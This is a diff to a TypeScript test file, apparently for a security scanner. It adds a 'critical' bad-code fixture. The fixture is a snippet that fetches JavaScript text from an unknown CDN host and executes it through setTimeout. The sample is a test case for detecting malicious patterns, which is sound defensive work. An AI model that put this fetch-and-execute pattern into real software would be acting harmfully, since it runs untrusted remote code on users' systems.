@@ -17,6 +17,14 @@ const bad: Array<[string, Record<string, string | Uint8Array>, Severity]> = [
     },
     'critical',
   ],
+  [
+    'fetched text in a timer',
+    {
+      'a.js':
+        "const task = await fetch('https://cdn.unknown-vendor.net/x.js').then((r) => r.text())\nsetTimeout(task, 50)\n",
+    },
+    'critical',
+  ],
 ]
 
 const good: Array<[string, Record<string, string | Uint8Array>]> = [
